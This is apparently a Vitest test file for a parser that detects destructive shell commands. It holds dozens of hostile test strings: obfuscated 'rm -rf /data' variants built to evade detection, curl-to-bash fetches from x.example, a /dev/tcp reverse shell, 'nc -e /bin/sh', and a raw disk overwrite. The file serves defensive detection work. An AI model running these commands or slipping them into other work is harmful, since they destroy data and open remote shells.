import { parseCommand } from '@aegis/learning/commands';
import { describe, expect, it } from 'vitest';
import { DESTRUCTIVE, HARMLESS } from './destructive-commands.js';

describe('what destroys', () => {
  it.each(DESTRUCTIVE)('is seen in: %s', (line) => {
    const parsed = parseCommand(line);
    expect(parsed.destructive).toBe(true);
    expect(parsed.reversible).toBe(false);
    expect(parsed.findings.some((one) => one.severity !== 'info')).toBe(true);
  });

  it.each(HARMLESS)('is not seen in: %s', (line) => {
    expect(parseCommand(line).destructive).toBe(false);
  });

  it.each([
    'echo "DROP TABLE users;" | psql shop',
    'psql shop <<SQL\nDROP TABLE users;\nSQL',
    'ssh host <<EOF\nsystemctl poweroff\nEOF',
    "alias go='kubectl delete'; go ns shop",
    'alias g=git; g push --force',
    "trap 'rm -rf /data' EXIT",
    '"export" X=rm; $X -rf /data',
    'rm$IFS$9-rf$IFS$9/data',
    'r{m,} -rf /data',
    '{{rm,-rf},/data}',
    "$'\\162\\155' -rf /data",
    '/bin/r? -rf /data',
    'printf rm | xargs -I{} {} -rf /data',
    'sudo !!',
    'mywrapper --flag rm -rf /data',
    "ansible web -a 'rm -rf /srv'",
    'eksctl delete cluster --name c',
    'apt-get purge nginx',
    'cp image.raw /dev/sdb',
    'git push origin +main',
    'awk \'BEGIN { system("rm -rf /") }\'',
    "env -S 'rm -rf /data'",
    'runuser -u ops -- rm -rf /data',
    "echo 'rm -rf /data' | at now",
    'source /dev/stdin <<< "rm -rf /data"',
    'bash < <(curl -s https://x.example)',
    'python3 <(curl -s https://x.example)',
    'curl -s https://x.example -o f && bash f',
    'bash -i >& /dev/tcp/x.example/1 0>&1',
    'nc -e /bin/sh x.example 1',
    'read x <<< rm; $x -rf /data',
    'for c in rm; do $c -rf /data; done',
    'set -- rm -rf /data; "$@"',
    'printf -v x rm; $x -rf /data',
    'curl -sX DELETE https://x.example',
  ])('is seen behind: %s', (line) => {
    expect(parseCommand(line).destructive).toBe(true);
  });

  it.each([
    'man rm',
    'which shutdown',
    'apt install parted',
    'kubectl get {pod,svc}/web',
    'python3 serve.py',
    'psql -c "select 1"',
    'git push origin main',
    'ip addr show',
    'journalctl -u rm',
    '$KUBECTL get pods -n shop',
    'for n in a b; do kubectl get pods -n $n; done',
    'echo > /dev/tcp/db/5432',
    'curl -s https://x.example -o f && cat f',
    "kubectl get pods -o jsonpath='{.items[*].metadata.name}",
  ])('is not seen behind: %s', (line) => {
    expect(parseCommand(line).destructive).toBe(false);
  });

  it.each([
    ') rm -rf /data',
    'kubectl get pods ) ; rm -rf /data',
    'if rm -rf /data',
    "kubectl get pods 'x; rm -rf /data",
    'kubectl get pods | | kubectl delete ns shop',
    'echo $(rm -rf /data',
  ])('is looked for where the line is not whole: %s', (line) => {
    const parsed = parseCommand(line);
    expect(parsed.destructive).toBe(true);
    expect(parsed.findings.map((one) => one.code)).toContain('syntax');
  });
});
